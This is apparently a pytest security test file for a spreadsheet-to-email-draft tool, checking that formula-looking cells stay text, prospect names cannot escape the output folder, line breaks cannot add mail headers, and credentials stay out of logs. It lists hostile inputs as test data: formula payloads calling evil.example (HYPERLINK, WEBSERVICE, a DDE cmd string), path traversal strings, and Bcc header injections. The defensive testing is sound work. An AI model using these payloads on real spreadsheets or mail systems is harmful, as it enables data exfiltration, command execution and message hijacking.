"""What a hostile or careless sheet can't do through `sheetsync sync` (reference 7.2, 7.3, 8.2, 8.3).

- Text that starts like a formula (``=``, ``+``, ``-``, ``@``) is written as text in every tab,
  in Excel (inline strings, no ``<f>``) and in Google Sheets (``stringValue``, never a formula).
- Prospect names that look like paths never put a file outside ``--out``.
- A line break in any cell that ends up in a mail header never adds a header (Bcc …).
- Credentials and access tokens never reach stdout, stderr, the log file or the drafts.

Workbooks are written with XlsxWriter's ``write_string`` so ``=1+1`` is a text cell, as a
user's typed-in text (or a CSV import) would be; Google runs go to the fake Sheets API
of tests/fake_sheets.py over real HTTP.
"""

from __future__ import annotations

import csv
import datetime as dt
import email
import email.policy
import json
import os
import re
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from click.testing import Result
from fake_sheets import FakeSheets, ServiceAccount, make_service_account, use_fake
from python_calamine import CalamineWorkbook
from test_gsheets import SA_EMAIL, secrets_in
from test_xlsx_package import sheet_parts

AS_OF = "2026-11-27"
DUE = dt.date(2026, 11, 26)  # a next follow-up before as-of: every row below is due a follow-up draft
HEADER = ["Prospect", "Contact", "Email", "Owner", "Owner Email", "Stage", "Decision Maker", "Budget",
          "Expected Close", "Last Contact", "Next Follow-up", "Notes", "Campaign", "CC", "Reply To"]  # fmt: skip
OUR_TABS = ("Summary", "Checks", "History")
KEY = "1SecurityTestKey_abcdefghijklmnopqrstuvwxyz0123"


@pytest.fixture(autouse=True)
def _isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SHEETSYNC_CONFIG", raising=False)


def row(prospect: str, **cells: Any) -> list[Any]:
    """A due, otherwise clean Lead row; ``cells`` overrides by header (spaces as underscores)."""
    values: dict[str, Any] = {
        "Prospect": prospect, "Contact": "Ann Lee", "Email": "ann@acme.example", "Owner": "Somchai",
        "Owner Email": "somchai@sales.example", "Stage": "Lead", "Budget": 10_000,
        "Expected Close": dt.date(2027, 1, 15), "Last Contact": dt.date(2026, 11, 20), "Next Follow-up": DUE,
    }  # fmt: skip
    values.update({k.replace("_", " "): v for k, v in cells.items()})
    return [values.get(h) for h in HEADER]


def write_book(path: Path, rows: Sequence[Sequence[Any]], header: Sequence[str] = HEADER) -> Path:
    """Every string as a text cell (write_string), dates as date cells."""
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("Pipeline")
    dates = wb.add_format({"num_format": "yyyy-mm-dd"})
    for c, title in enumerate(header):
        ws.write_string(0, c, title)
    for r, values in enumerate(rows, 1):
        for c, value in enumerate(values):
            if isinstance(value, str):
                ws.write_string(r, c, value)
            elif isinstance(value, dt.date):
                ws.write_datetime(r, c, value, dates)
            elif value is not None:
                ws.write_number(r, c, value)
    wb.close()
    return path


def sync(run_cli: Callable[..., Result], source: str, out: Path, *extra: str) -> Result:
    return run_cli("sync", source, "--as-of", AS_OF, "--out", str(out), *extra)


def manifest(out: Path) -> list[dict[str, str]]:
    with (out / "drafts.csv").open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


# ---------------------------------------------------------------- formulas stay text

DANGEROUS_PROSPECTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+66 81 234 5678",
    "-5+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
]
DANGEROUS_OWNERS = ["=1+1", "+Owner", "-Owner", "@Owner"]


def formula_rows() -> list[list[Any]]:
    """Formula-looking prospects (each with a finding, so they reach Checks), owners (Summary), bad cells."""
    rows = [
        row(DANGEROUS_PROSPECTS[0], Owner=DANGEROUS_OWNERS[0], Budget="=1+1"),  # bad-value quoting "=1+1"
        row(DANGEROUS_PROSPECTS[1], Owner=DANGEROUS_OWNERS[1], Decision_Maker="=TRUE()", Stage="Demo"),
        row(DANGEROUS_PROSPECTS[2], Owner=DANGEROUS_OWNERS[2], Email="=evil@x"),  # bad-value quoting the email
        row(DANGEROUS_PROSPECTS[3], Owner=DANGEROUS_OWNERS[3], Expected_Close="@TODAY()"),
        row(DANGEROUS_PROSPECTS[4], Notes="=WEBSERVICE(\"http://evil.example\")", Campaign="=2*3",
            Last_Contact=dt.date(2026, 10, 1)),  # stale: a warning naming the prospect
        row("Plain Co", Stage="=Lead"),  # unknown-stage quoting "=Lead"
    ]  # fmt: skip
    return rows


_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")
_CELL_TYPE = re.compile(rb'<(?:\w+:)?c\b[^>]*?\bt="(\w+)"')


def test_formula_looking_text_is_text_in_every_excel_tab(tmp_path: Path, run_cli: Callable[..., Result]) -> None:
    """Summary, Checks and History carry no <f> element; every text cell is an inline string that reads as text."""
    path = write_book(tmp_path / "pipeline.xlsx", formula_rows())
    result = sync(run_cli, str(path), tmp_path / "drafts", "--json")
    assert result.exit_code == 1, result.stderr
    findings = json.loads(result.stdout)["findings"]
    assert {f["prospect"] for f in findings} >= set(DANGEROUS_PROSPECTS)

    parts_by_tab = sheet_parts(path)
    with zipfile.ZipFile(path) as zf:
        for tab in OUR_TABS:
            xml = zf.read(parts_by_tab[tab])
            assert not _FORMULA_ELEMENT.search(xml), f"{tab} has a formula element"
            kinds = set(_CELL_TYPE.findall(xml))
            assert kinds <= {b"inlineStr", b"n", b"b"}, f"{tab} has cells of type {kinds}"

    wb = openpyxl.load_workbook(path)
    texts: dict[str, list[Any]] = {tab: [] for tab in OUR_TABS}
    for tab in OUR_TABS:
        for cells in wb[tab].iter_rows():
            for cell in cells:
                assert cell.data_type != "f", f"{tab}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type in ("s", "inlineStr")
                    texts[tab].append(cell.value)
    assert set(DANGEROUS_PROSPECTS) <= set(texts["Checks"])
    assert set(DANGEROUS_OWNERS) <= set(texts["Summary"])
    messages = " ".join(texts["Checks"])
    assert "'=1+1'" in messages and "'=Lead'" in messages and "=evil@x" in messages and "@TODAY()" in messages

    book = CalamineWorkbook.from_path(str(path))  # the reader sheetsync itself uses agrees
    checks = [r[2] for r in book.get_sheet_by_name("Checks").to_python()]
    assert set(DANGEROUS_PROSPECTS) <= set(checks)


def test_formula_looking_text_in_the_manifest_opens_as_text(tmp_path: Path, run_cli: Callable[..., Result]) -> None:
    """drafts.csv (opened in Excel by people) prefixes formula-looking cells with an apostrophe."""
    path = write_book(tmp_path / "pipeline.xlsx", [row(p) for p in DANGEROUS_PROSPECTS])
    assert sync(run_cli, str(path), tmp_path / "drafts").exit_code in (0, 1)
    entries = manifest(tmp_path / "drafts")
    assert {e["prospect"] for e in entries} == {"'" + p for p in DANGEROUS_PROSPECTS}
    for e in entries:
        assert e["subject"][:1] not in ("=", "+", "-", "@")


# ---------------------------------------------------------------- file names from prospect names

PATH_ATTACKS = [
    "../../etc/passwd",
    "../../../../../../../../tmp/sheetsync-escape",
    "/etc/passwd",
    "..\\..\\Windows\\win.ini",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "\\\\server\\share\\file",
    "CON",
    "nul",
    "COM1",
    "LPT9.txt",
    "..",
    ".",
    "~",
    ".hidden",
    "x" * 1_000,
    "ก" * 400,
    "A\x00B",
    "name/with/slashes",
    "drafts.csv",
    "file:///etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
]
WINDOWS_RESERVED = {"con", "prn", "aux", "nul", *(f"com{i}" for i in range(10)), *(f"lpt{i}" for i in range(10))}


def tree(root: Path) -> dict[str, tuple[int, int]]:
    out = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            p = Path(folder) / name
            st = p.lstat()
            out[str(p.relative_to(root))] = (st.st_size, st.st_mtime_ns)
    return out


def test_prospect_names_never_put_a_file_outside_out(tmp_path: Path, run_cli: Callable[..., Result]) -> None:
    """Path-like, reserved, huge, NUL-holding prospect names: every draft lands directly in --out with a safe name."""
    rows = [row(name, Email=f"p{i}@acme.example") for i, name in enumerate(PATH_ATTACKS)]
    (tmp_path / "book").mkdir()
    path = write_book(tmp_path / "book" / "pipeline.xlsx", rows)
    out = tmp_path / "deep" / "out"
    escape = Path("/tmp/sheetsync-escape")
    passwd = os.stat("/etc/passwd").st_mtime_ns
    before = tree(tmp_path)
    result = sync(run_cli, str(path), out)
    assert result.exit_code in (0, 1), result.stderr
    assert "Traceback" not in result.stderr

    after = tree(tmp_path)
    changed = {p for p in after if before.get(p) != after[p]}
    outside = {p for p in changed if not (p == "deep" or p.startswith("deep/out"))} - {"book", "book/pipeline.xlsx"}
    assert outside == set(), f"written outside --out: {sorted(outside)}"
    assert not escape.exists() and os.stat("/etc/passwd").st_mtime_ns == passwd
    assert all(p.is_file() for p in out.iterdir()), "a folder was created inside --out"

    entries = manifest(out)
    assert len(entries) == len(PATH_ATTACKS)  # every due row accounted for
    names = [e["file"] for e in entries if e["status"] == "written"]
    assert len(names) == len(set(names)) == len(PATH_ATTACKS), [(e["row"], e["status"], e["detail"]) for e in entries]
    for name in names:
        assert (out / name).is_file()
        assert "/" not in name and "\\" not in name and "\x00" not in name and ".." not in name
        assert len(name.encode("utf-8")) <= 255
        slug = name.removesuffix(".eml").split("_", 3)[3]
        assert slug.casefold() not in WINDOWS_RESERVED and slug.split(".")[0].casefold() not in WINDOWS_RESERVED
        assert not slug.startswith(".") and not re.search(r'[<>:"|?*\x00-\x1f]', name)
    assert sorted(p.name for p in out.iterdir()) == sorted([*names, "drafts.csv"])


# ---------------------------------------------------------------- mail headers

INJECT = "\r\nBcc: evil@attacker.example"
HEADER_TEMPLATE = (
    "Subject: {{ prospect.prospect }} — {{ prospect.campaign or 'news' }}\n"
    "Cc: {{ prospect.cc }}\n"  # an empty value sets no header
    "Reply-To: {{ prospect.reply_to }}\n"
    "\n"
    "Hello {{ prospect.contact }}\n"
)
# row number → (how it is attacked, what must happen to its draft)
INJECTIONS: dict[int, tuple[dict[str, Any], str]] = {
    2: ({}, "written"),
    3: ({"Prospect": "Acme" + INJECT}, "failed"),
    4: ({"Prospect": "Acme\nBcc: evil@attacker.example"}, "failed"),
    5: ({"Prospect": "Acme\rBcc: evil@attacker.example"}, "failed"),
    6: ({"Prospect": "Acme\u2028Bcc: evil@attacker.example"}, "failed"),
    7: ({"Contact": "Ann" + INJECT}, "safe"),
    8: ({"Email": "ann@acme.example" + INJECT}, "skipped"),
    9: ({"Owner": "Somchai" + INJECT}, "safe"),
    10: ({"Owner Email": "somchai@sales.example" + INJECT}, "safe"),
    11: ({"Campaign": "Q4" + INJECT}, "failed"),
    12: ({"Campaign": "Q4\x85Bcc: evil@attacker.example"}, "failed"),
    13: ({"CC": "pa@acme.example" + INJECT}, "failed"),
    14: ({"Reply To": "reply@acme.example" + INJECT}, "failed"),
}
ALLOWED_HEADERS = {
    "x-unsent", "from", "to", "cc", "reply-to", "subject", "date", "message-id", "mime-version", "content-type",
    "content-transfer-encoding",
}  # fmt: skip


def test_header_injection_through_every_header_column_is_refused(
    tmp_path: Path, run_cli: Callable[..., Result]
) -> None:
    """A line break in prospect, contact, email, owner, owner email or a subject/Cc/Reply-To column adds no header."""
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "follow-up.txt.j2").write_text(HEADER_TEMPLATE, encoding="utf-8")
    (tmp_path / "sheetsync.toml").write_text("", encoding="utf-8")  # templates/ beside it is used
    rows = []
    for n, (cells, _) in sorted(INJECTIONS.items()):
        values = {"Email": f"c{n}@acme.example", **cells}
        rows.append(row(values.pop("Prospect", f"Company {n}"), **{k.replace(" ", "_"): v for k, v in values.items()}))
    path = write_book(tmp_path / "pipeline.xlsx", rows)
    out = tmp_path / "drafts"
    result = sync(run_cli, str(path), out)
    assert result.exit_code == 1, result.stderr
    assert "Traceback" not in result.stderr

    by_row = {int(e["row"]): e for e in manifest(out)}
    assert set(by_row) == set(INJECTIONS)
    for n, (_cells, expected) in INJECTIONS.items():
        entry = by_row[n]
        if expected == "failed":
            assert entry["status"] == "failed", (n, entry)
            assert "injection" in entry["detail"], (n, entry)
            assert entry["file"] == ""
        elif expected == "skipped":
            assert entry["status"] == "skipped", (n, entry)
        else:
            assert entry["status"] == "written", (n, entry)
    for eml in out.glob("*.eml"):
        raw = eml.read_bytes()
        head = raw.split(b"\r\n\r\n", 1)[0]
        assert not re.search(rb"(?im)^bcc:", head), eml.name
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        assert {k.lower() for k in msg} <= ALLOWED_HEADERS, (eml.name, msg.keys())
        for name in ("From", "To", "Cc", "Reply-To"):
            if msg[name] is not None:
                addresses = [a.addr_spec for a in msg[name].addresses]
                assert "evil@attacker.example" not in addresses, (eml.name, name, addresses)
                assert all("\n" not in a and "\r" not in a for a in addresses)
        assert len(msg["To"].addresses) == 1


# ---------------------------------------------------------------- Google Sheets


@pytest.fixture(scope="module")
def google(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[FakeSheets, ServiceAccount]]:
    """The fake Sheets API over HTTP and a service account it knows."""
    with FakeSheets() as fake:
        yield fake, make_service_account(fake, tmp_path_factory.mktemp("sa"), SA_EMAIL)


@pytest.fixture
def sheets(
    google: tuple[FakeSheets, ServiceAccount], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> tuple[FakeSheets, ServiceAccount]:
    fake, account = google
    use_fake(fake, monkeypatch, tmp_path)
    return fake, account


def test_formula_looking_text_is_never_a_formula_in_google(
    sheets: tuple[FakeSheets, ServiceAccount], tmp_path: Path, run_cli: Callable[..., Result]
) -> None:
    """Through the Sheets API every value goes as stringValue: the tabs hold the text, never a formula."""
    fake, account = sheets
    fake.add_spreadsheet(KEY, {"Pipeline": [HEADER, *formula_rows()]})
    result = sync(run_cli, f"gsheet:{KEY}", tmp_path / "drafts", "--credentials", str(account.path))
    assert result.exit_code == 1, result.stderr
    bodies = b"".join(entry.body for entry in fake.requests("batchUpdate"))
    assert bodies and b"formulaValue" not in bodies
    values = {tab: fake.sheet(KEY, tab).values() for tab in OUR_TABS}
    for tab, rows in values.items():
        for cells in rows:
            assert not any(isinstance(v, dict) for v in cells), (tab, cells)
    assert set(DANGEROUS_PROSPECTS) <= {r[2] for r in values["Checks"] if len(r) > 2}
    assert set(DANGEROUS_OWNERS) <= {r[0] for r in values["Summary"] if r}


@pytest.mark.parametrize("setup", ["ok", "unshared", "write-fails", "token-refused", "quota"])
def test_credentials_never_reach_output_logs_or_drafts(
    sheets: tuple[FakeSheets, ServiceAccount], tmp_path: Path, run_cli: Callable[..., Result], setup: str
) -> None:
    """Success or failure, --json or not: no access token or key line in stdout, stderr, the log or the drafts."""
    fake, account = sheets
    book = fake.add_spreadsheet(KEY, {"Pipeline": [HEADER, row("Acme"), row("Beta", Email="b@beta.example")]})
    if setup == "unshared":
        book.editors = set()
    elif setup == "write-fails":
        fake.fail("batchUpdate", 500, times=99)
    elif setup == "token-refused":
        fake.fail("token", 400, times=99)
    elif setup == "quota":
        fake.fail("api", 429, times=99)
    log = tmp_path / "sheetsync.log"
    out = tmp_path / "drafts"
    texts = []
    for extra in ((), ("--json",)):
        result = sync(run_cli, f"gsheet:{KEY}", out, "--credentials", str(account.path), "--log-file", str(log), *extra)
        assert result.exit_code == (0 if setup == "ok" else 3), result.stderr
        assert "Traceback" not in result.stderr
        texts += [result.stdout, result.stderr]
    if setup == "ok":
        assert fake.tokens, "no token was issued: nothing could have leaked"
        assert len(list(out.glob("*.eml"))) == 2
    texts.append(log.read_text(encoding="utf-8"))
    texts += [p.read_text(encoding="utf-8", errors="replace") for p in out.glob("*")] if out.exists() else []
    assert len(log.read_text().splitlines()) == 2
    leaks = secrets_in("\n".join(texts), fake, account)
    assert leaks == []
    assert account.info["private_key_id"] not in "\n".join(texts)
